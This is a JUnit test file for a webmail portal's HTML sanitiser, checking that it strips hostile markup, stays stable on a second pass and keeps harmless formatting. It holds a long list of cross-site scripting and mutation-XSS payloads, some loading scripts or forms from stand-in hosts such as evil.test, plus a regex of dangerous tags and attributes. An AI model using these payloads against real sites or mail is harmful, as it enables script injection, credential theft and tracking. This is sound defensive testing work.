package org.signet.portal.message;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.List;
import java.util.regex.Pattern;

/** What of a mail's HTML gets through. */
class MailHtmlTest {
    /** What must not stand in any output: it loads, runs, submits, or changes the document. */
    private static final Pattern HARMFUL =
            Pattern.compile(
                    "(?is)<\\s*/?(script|style|svg|math|meta|base|form|input|button|textarea|select"
                            + "|iframe|frame|object|embed|applet|link|template|noscript|audio|video"
                            + "|source|picture|img|xmp|plaintext|title|html|body|head|dialog|details)\\b"
                            + "|<[^>]*\\s(on\\w+|src|srcset|srcdoc|background|action|formaction|xlink:href"
                            + "|data|poster|ping|id|name|http-equiv)\\s*="
                            + "|<[^>]*(javascript|vbscript|data|file|cid|blob)\\s*(:|&#0*58;|&colon;)"
                            + "|<[^>]*(url\\s*\\(|expression\\s*\\(|@import|-moz-binding|behavior:"
                            + "|position:)");

    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror=alert(1) alt='\"><script>alert(1)</script>'>",
                "<img alt=\"]</style><script>alert(1)</script>\" src=x>",
                "<img src=\"https://tracker.test/p.gif\">",
                "<img srcset=\"https://tracker.test/p.gif 1x\" alt=x>",
                "<img src=\"cid:part1\" alt=x>",
                "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\" alt=x>",
                "<table background=\"https://tracker.test/p.gif\"><tr><td>x</table>",
                "<body onload=alert(1) background=\"https://tracker.test/p.gif\">x</body>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"java&#10;script:alert(1)\">x</a>",
                "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"https://ok.test\" ping=\"https://tracker.test\">x</a>",
                "<a href=\"https://ok.test\" onclick=alert(1) id=x name=y>x</a>",
                "<style>*{background:url(https://tracker.test/p.gif)}</style>x",
                "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>",
                "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<p style=\"background:url(https://tracker.test/p.gif)\">x</p>",
                "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
                "<p style=\"width:expression(alert(1))\">x</p>",
                "<p style=\"-moz-binding:url(//evil.test/x)\">x</p>",
                "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
                "<p style=\"ba\\63kground:u\\72l(https://tracker.test)\">x</p>",
                "<link rel=stylesheet href=https://evil.test/x.css>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
                "<base href=https://evil.test/>",
                "<form action=https://evil.test><input name=passcode><button>Go</button></form>",
                "<button formaction=javascript:alert(1)>x</button>",
                "<textarea><script>alert(1)</script></textarea>",
                "<select><style></select><script>alert(1)</script></style></select>",
                "<iframe src=https://evil.test></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=https://evil.test></object><embed src=https://evil.test>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
                        + " onerror=alert(1)&gt;\">",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<video src=https://tracker.test/v autoplay><source src=x></video>",
                "<template><script>alert(1)</script></template>",
                "<xmp><script>alert(1)</script></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<title><script>alert(1)</script></title>",
                "<!--><script>alert(1)</script>-->",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<div\u0000><scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<x onclick=alert(1)>x</x>",
                "\"><script>alert(1)</script>",
                "</body></html><script>alert(1)</script>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void sanitiseShouldLeaveNothingHarmful(String attack) {
        MailHtml.Sanitised once = MailHtml.sanitise(attack);

        assertThat(once.html()).doesNotContainPattern(HARMFUL);
    }

    /** What a second parse reads differently from the first is where mutation attacks live. */
    @ParameterizedTest
    @MethodSource("attacks")
    void sanitiseShouldChangeNothingTheSecondTime(String attack) {
        String once = MailHtml.sanitise(attack + "<p>end</p>").html();

        assertThat(MailHtml.sanitise(once).html()).isEqualTo(once);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void sanitiseShouldKeepHarmlessTextThatFollows(String attack) {
        if (attack.contains("<plaintext") || attack.startsWith("<math><mtext>")) {
            return;
        }
        assertThat(MailHtml.sanitise("<b>before</b>" + attack).html()).contains("<b>before</b>");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            textBlock =
                    """
                    paragraph | <p>a <b>b</b> <i>c</i></p>         | <p>a <b>b</b> <i>c</i></p>
                    list      | <ul><li>a</li></ul>                | <ul><li>a</li></ul>
                    table     | <table border="1"><tr><td>a</td></tr></table> | <table border="1"><tbody><tr><td>a</td></tr></tbody></table>
                    colour    | <p style="color:red">a</p>         | <p style="color:red">a</p>
                    quote     | <blockquote>a</blockquote>         | <blockquote>a</blockquote>
                    picture   | a <img src="x" alt="A dog"> b      | a [A dog] b
                    pixel     | a<img src="x" alt="">b             | ab
                    """)
    void sanitiseShouldKeepWhatAReaderNeeds(String label, String html, String expected) {
        assertThat(MailHtml.sanitise(html).html()).as(label).isEqualTo(expected);
    }

    @Test
    void sanitiseShouldOpenLinksBesideThePortalAndShowWhereTheyLead() {
        String html =
                MailHtml.sanitise("<a href=\"https://evil.test/x\" title=\"Your bank\">bank</a>")
                        .html();

        assertThat(html)
                .contains("href=\"https://evil.test/x\"", "title=\"https://evil.test/x\"")
                .contains("target=\"_blank\"", "noopener", "noreferrer")
                .doesNotContain("Your bank");
    }

    @ParameterizedTest
    @CsvSource({"/m/x/leave", "//evil.test", "m/x", "#top", "https:evil"})
    void sanitiseShouldDropLinksThatAreNotWholeAddresses(String address) {
        assertThat(MailHtml.sanitise("<a href=\"" + address + "\">x</a>").html())
                .doesNotContain("href");
    }

    @Test
    void sanitiseShouldCountPictures() {
        assertThat(MailHtml.sanitise("<img src=a><img src=b alt=c><p>d</p>").picturesLeftOut())
                .isEqualTo(2);
        assertThat(MailHtml.sanitise("<p>d</p>").picturesLeftOut()).isZero();
    }

    @Test
    void sanitiseShouldBearDeepNestingAndCutItOff() {
        String deep = "<p>first</p>" + "<div>".repeat(200_000) + "last";

        assertThat(MailHtml.sanitise(deep).html()).startsWith("<p>first</p>").hasSizeLessThan(5000);
    }
}
